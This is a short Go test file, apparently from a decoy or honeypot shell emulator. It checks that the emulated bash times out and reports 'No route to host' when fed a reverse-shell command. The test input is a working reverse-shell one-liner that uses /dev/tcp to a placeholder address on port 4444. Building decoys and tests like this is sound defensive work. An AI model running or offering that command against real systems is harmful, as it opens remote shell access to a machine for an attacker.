package shell

import (
	"testing"
	"testing/synctest"
	"time"

	"gait/decoy/proc"
)

// TestUnreached waits for a host that does not answer as long as wget does.
func TestUnreached(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		began := time.Now()
		got := newRig(proc.Limits{}).exec(t, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "")
		want := "bash: line 1: connect: No route to host\nbash: line 1: /dev/tcp/192.0.2.1/4444: No route to host\n"
		if took := time.Since(began); got.err != want || got.code != 1 || took < unanswered || took > 2*unanswered {
			t.Errorf("%q, code %d after %v", got.err, got.code, took)
		}
	})
}
